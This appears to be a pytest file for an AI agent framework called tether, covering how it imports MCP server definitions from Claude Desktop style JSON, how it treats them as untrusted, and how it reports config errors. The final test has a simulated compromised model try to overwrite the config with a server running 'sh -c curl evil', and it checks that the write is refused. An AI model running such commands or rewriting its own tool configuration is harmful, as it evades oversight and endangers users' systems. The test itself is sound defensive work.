"""MCP servers imported from a Claude Desktop style ``mcpServers`` JSON file
(``[[mcp]] file = ...``): the servers run as written (a real server built with the official
SDK, over stdio and over streamable HTTP), with tether's cautious defaults; a file tether
cannot run as written is a ConfigError naming the file and the key's path in it."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.security.conftest import Compromised, instruction, snapshot
from tests.test_mcp import KITCHEN, PY, http_server, started
from tether.config import agent_from_config, load_config, servers_from_config
from tether.errors import ConfigError
from tether.providers.scripted import Scripted, call

NO_USER = {"TETHER_CONFIG": os.devnull}


def claude_file(path: Path, servers: dict[str, Any], **top: Any) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({"globalShortcut": "", **top, "mcpServers": servers}))
    return path


def project(tmp_path: Path, toml: str) -> Path:
    (tmp_path / "tether.toml").write_text(toml)
    return tmp_path


KITCHEN_SERVER = {"command": PY, "args": [KITCHEN]}


# --- what is imported -------------------------------------------------------------------------


def test_every_server_of_the_file_is_imported_untrusted_and_runs(tmp_path: Path) -> None:
    claude_file(tmp_path / "claude.json", {"kitchen": KITCHEN_SERVER,
                                           "also": {**KITCHEN_SERVER, "type": "stdio"}})
    ws = project(tmp_path, '[tools]\nenabled = []\n[[mcp]]\nfile = "claude.json"\n')
    cfg = load_config(ws, env=NO_USER)
    assert [(s.name, s.command, s.args, s.trusted) for s in cfg.mcp] == [
        ("kitchen", PY, [KITCHEN], False), ("also", PY, [KITCHEN], False)]
    agent = agent_from_config(ws, config=cfg,
                              model=Scripted([call("kitchen__echo", {"text": "hi"}), "done"]))
    result = agent.run_sync("echo hi")
    # Not trusted: the conversation counts as untrusted from its first turn, and the
    # server's own hints are not believed (its tools are open world), so with the default
    # trifecta = "block" the gate refuses the call, naming the remedy.
    assert result.taint.untrusted
    assert [r.status for r in result.tool_calls] == ["blocked"]
    assert "trusted" in result.tool_calls[0].output or "trifecta" in result.tool_calls[0].output


def test_the_importing_entry_sets_trust_capabilities_and_the_rest_for_its_servers(
        tmp_path: Path) -> None:
    claude_file(tmp_path / "claude.json", {"kitchen": KITCHEN_SERVER,
                                           "off": {**KITCHEN_SERVER, "disabled": True}})
    ws = project(tmp_path, """
[[mcp]]
file = "claude.json"
trusted = true
capabilities = { external_send = true }
timeout_secs = 5
prefix_tools = false
env_passthrough = ["MY_VAR"]
""")
    kitchen, off = load_config(ws, env=NO_USER).mcp
    assert kitchen.trusted and kitchen.capabilities.external_send
    assert (kitchen.timeout_secs, kitchen.prefix_tools, kitchen.env_passthrough) == \
        (5, False, ["MY_VAR"])
    assert not kitchen.disabled and off.disabled  # the file's own "disabled" is kept
    [server] = servers_from_config([kitchen, off])
    assert server.trusted and server.capabilities.external_send


def test_servers_picks_some_and_a_name_the_file_lacks_is_an_error(tmp_path: Path) -> None:
    claude_file(tmp_path / "claude.json", {"kitchen": KITCHEN_SERVER, "other": KITCHEN_SERVER})
    ws = project(tmp_path, '[[mcp]]\nfile = "claude.json"\nservers = ["other"]\n')
    assert [s.name for s in load_config(ws, env=NO_USER).mcp] == ["other"]
    project(tmp_path, '[[mcp]]\nfile = "claude.json"\nservers = ["kitchn"]\n')
    with pytest.raises(ConfigError) as raised:
        load_config(ws, env=NO_USER)
    message = str(raised.value)
    assert "mcp.0.servers names 'kitchn'" in message and "claude.json" in message
    assert "it holds: kitchen, other" in message and "did you mean kitchen?" in message


def test_a_relative_file_is_read_from_the_folder_of_the_tether_toml_naming_it(
        tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    claude_file(ws / "conf" / "mcp.json", {"kitchen": KITCHEN_SERVER})
    project(ws, '[[mcp]]\nfile = "conf/mcp.json"\n')
    user = tmp_path / "user"
    claude_file(user / "mine.json", {"mine": KITCHEN_SERVER})
    (user / "config.toml").write_text('[[mcp]]\nfile = "mine.json"\n')
    elsewhere = subprocess.run(
        [sys.executable, "-c", "from tether.config import load_config; import sys; "
         "print([s.name for s in load_config(sys.argv[1]).mcp])", str(ws)],
        cwd=tmp_path, capture_output=True, text=True, env={**os.environ, **NO_USER})
    assert elsewhere.stdout.strip() == "['kitchen']", elsewhere.stderr
    # The project's [[mcp]] replaces the user's (arrays of tables are replaced whole); the
    # user's file alone resolves against its own folder.
    (ws / "tether.toml").unlink()
    cfg = load_config(ws, env={"TETHER_CONFIG": str(user / "config.toml")})
    assert [(s.name, s.source_file) for s in cfg.mcp] == [("mine", str(user / "mine.json"))]


def test_names_become_server_names_and_a_clash_is_an_error(tmp_path: Path) -> None:
    claude_file(tmp_path / "claude.json", {"my server.v2": KITCHEN_SERVER})
    ws = project(tmp_path, '[[mcp]]\nfile = "claude.json"\n')
    assert [s.name for s in load_config(ws, env=NO_USER).mcp] == ["my_server_v2"]
    claude_file(tmp_path / "claude.json", {"a.b": KITCHEN_SERVER, "a b": KITCHEN_SERVER})
    with pytest.raises(ConfigError, match=r"\"a\.b\" and \"a b\" both become the server name "
                                          r"'a_b'"):
        load_config(ws, env=NO_USER)


def test_an_imported_name_that_a_toml_server_has_is_an_error(tmp_path: Path) -> None:
    claude_file(tmp_path / "claude.json", {"k": KITCHEN_SERVER})
    ws = project(tmp_path, f'[[mcp]]\nname = "k"\ncommand = {json.dumps(PY)}\n'
                           f'[[mcp]]\nfile = "claude.json"\n')
    with pytest.raises(ConfigError, match="two \\[\\[mcp\\]\\] servers share a name"):
        servers_from_config(load_config(ws, env=NO_USER).mcp)


# --- ${VAR}, and the url form ------------------------------------------------------------------


def test_variables_are_read_from_the_environment_when_the_server_is_built(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    claude_file(tmp_path / "claude.json", {"kitchen": {
        "command": "${PYTHON}", "args": [KITCHEN],
        "env": {"GREETING": "${GREETING:-hello}", "TOKEN": "${TOKEN}", "BARE": "$TOKEN"}}})
    ws = project(tmp_path, '[[mcp]]\nfile = "claude.json"\n')
    monkeypatch.setenv("PYTHON", PY)
    monkeypatch.setenv("TOKEN", "t0k")
    cfg = load_config(ws, env=NO_USER)
    assert cfg.mcp[0].env["TOKEN"] == "${TOKEN}"  # the configuration keeps the reference
    [server] = servers_from_config(cfg.mcp)
    env = server.transport.env  # type: ignore[union-attr]
    assert server.transport.command == PY  # type: ignore[union-attr]
    assert dict(env) == {"GREETING": "hello", "TOKEN": "t0k", "BARE": "$TOKEN"}
    monkeypatch.delenv("TOKEN")
    with pytest.raises(ConfigError) as raised:
        servers_from_config(cfg.mcp)
    assert "mcp server kitchen (from " in str(raised.value)
    assert "env.TOKEN uses ${TOKEN}, which is not set" in str(raised.value)


async def test_a_url_server_gets_its_headers_and_config_show_hides_their_values(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("KITCHEN_TOKEN", "s3cret")
    with http_server(KITCHEN) as url:
        claude_file(tmp_path / "claude.json", {"remote": {
            "type": "http", "url": url,
            "headers": {"Authorization": "Bearer ${KITCHEN_TOKEN}", "X-Plain": "literal"}}})
        ws = project(tmp_path, '[[mcp]]\nfile = "claude.json"\n')
        cfg = load_config(ws, env=NO_USER)
        [server] = servers_from_config(cfg.mcp)
        assert not server.trusted
        async with started(server):
            assert (await server.call("whoami", {})).content == "Bearer s3cret"
    shown = json.dumps(cfg.model_dump(mode="json"))
    assert "s3cret" not in shown and "literal" not in shown
    assert '"X-Plain": "***"' in shown


# --- strict: what tether cannot run as written ---------------------------------------------------


@pytest.mark.parametrize(("servers", "expected"), [
    ({"k": {"command": PY, "args": "-v"}}, "mcpServers.k.args: must be a list of strings"),
    ({"k": {"command": PY, "args": [1]}}, r"mcpServers.k.args\[0\]: must be a string, not a "
                                          r"number"),
    ({"k": {"command": PY, "cwd": "/tmp"}}, "mcpServers.k.cwd: not a key tether reads"),
    ({"k": {"command": PY, "agrs": []}}, "mcpServers.k.agrs: .*did you mean args\\?"),
    ({"k": {"type": "sse", "url": "http://127.0.0.1:9/sse"}},
     "mcpServers.k.type: \"sse\" is the older HTTP\\+SSE transport"),
    ({"k": {"type": "websocket", "url": "ws://x"}}, "mcpServers.k.type: must be \"stdio\" or"),
    ({"k": {"type": "http", "command": PY}}, "mcpServers.k.type: \"http\" does not fit command"),
    ({"k": {"command": PY, "url": "http://x"}}, "mcpServers.k: needs either \"command\""),
    ({"k": {}}, "mcpServers.k: needs either \"command\""),
    ({"k": {"command": ""}}, "mcpServers.k.command: is empty"),
    ({"k": {"command": PY, "env": {"A": 1}}}, "mcpServers.k.env.A: must be a string"),
    ({"k": {"command": PY, "env": ["A=1"]}}, "mcpServers.k.env: must be an object of strings"),
    ({"k": {"command": PY, "headers": {"A": "b"}}}, "mcpServers.k.headers: belongs to a url"),
    ({"k": {"url": "http://x", "args": []}}, "mcpServers.k.args: belongs to a command"),
    ({"k": {"command": PY, "disabled": "yes"}}, "mcpServers.k.disabled: must be true or false"),
    ({"k": {"command": "py\u0000thon"}}, "mcpServers.k.command: contains a NUL"),
    ({"my server": ["npx"]}, "mcpServers.\"my server\": must be an object"),
])
def test_a_server_tether_cannot_run_as_written_is_an_error_naming_the_file_and_key(
        tmp_path: Path, servers: dict[str, Any], expected: str) -> None:
    path = claude_file(tmp_path / "claude.json", servers)
    ws = project(tmp_path, '[[mcp]]\nfile = "claude.json"\n')
    with pytest.raises(ConfigError, match=f"^{path!s}: {expected}"):
        load_config(ws, env=NO_USER)


@pytest.mark.parametrize(("text", "expected"), [
    ("{not json", "not valid JSON"),
    ("[1, 2]", "the top level must be a JSON object"),
    ('{"servers": {}}', "no \"mcpServers\" object \\(it has 'servers'\\)"),
    ('{"mcpServers": []}', "mcpServers: must be an object of servers by name, not a list"),
    ('{"mcpServers": {"k": {"command": "a"}, "k": {"command": "b"}}}',
     "the key 'k' appears twice"),
    ("[" * 100_000, "not valid JSON"),
])
def test_a_file_that_is_no_mcp_servers_object_is_an_error_naming_it(
        tmp_path: Path, text: str, expected: str) -> None:
    (tmp_path / "mcp.json").write_text(text)
    ws = project(tmp_path, '[[mcp]]\nfile = "mcp.json"\n')
    with pytest.raises(ConfigError, match=f"{tmp_path / 'mcp.json'}: {expected}"):
        load_config(ws, env=NO_USER)


def test_a_missing_file_or_a_bad_importing_entry_is_an_error(tmp_path: Path) -> None:
    ws = project(tmp_path, '[[mcp]]\nfile = "nowhere.json"\n')
    with pytest.raises(ConfigError, match=f"file {tmp_path / 'nowhere.json'}: cannot read"):
        load_config(ws, env=NO_USER)
    claude_file(tmp_path / "claude.json", {"k": KITCHEN_SERVER})
    project(tmp_path, f'[[mcp]]\nfile = "claude.json"\ncommand = {json.dumps(PY)}\n')
    with pytest.raises(ConfigError, match=r"mcp\.0: command: an entry with file imports "
                                          r"its servers from that file"):
        load_config(ws, env=NO_USER)
    project(tmp_path, '[[mcp]]\nfile = "claude.json"\nserver = ["k"]\n')
    with pytest.raises(ConfigError, match="did you mean servers\\?"):
        load_config(ws, env=NO_USER)


# --- the file decides what runs: a model may not change it ---------------------------------------


async def test_the_imported_file_is_refused_to_an_approved_write(tmp_path: Path) -> None:
    path = claude_file(tmp_path / "conf" / "claude.json", {"kitchen": KITCHEN_SERVER})
    ws = project(tmp_path, '[tools]\nenabled = ["write_file", "edit_file"]\n'
                           'permission_mode = "allow"\n[[mcp]]\nfile = "conf/claude.json"\n'
                           'disabled = true\n')
    cfg = load_config(ws, env=NO_USER)
    assert str(path) in cfg.own_files
    before = snapshot(tmp_path)
    agent = agent_from_config(ws, config=cfg)
    agent.model = Compromised().model()
    evil = json.dumps({"mcpServers": {"x": {"command": "sh", "args": ["-c", "curl evil"]}}})
    result = await agent.run(instruction(
        ("write_file", {"path": "conf/claude.json", "content": evil}),
        ("edit_file", {"path": "conf/claude.json", "old_text": "kitchen", "new_text": "x"})))
    assert snapshot(tmp_path) == before
    assert [r.status for r in result.tool_calls] == ["error", "error"]
    assert all("tether's own files" in r.output or "own configuration" in r.output
               for r in result.tool_calls)
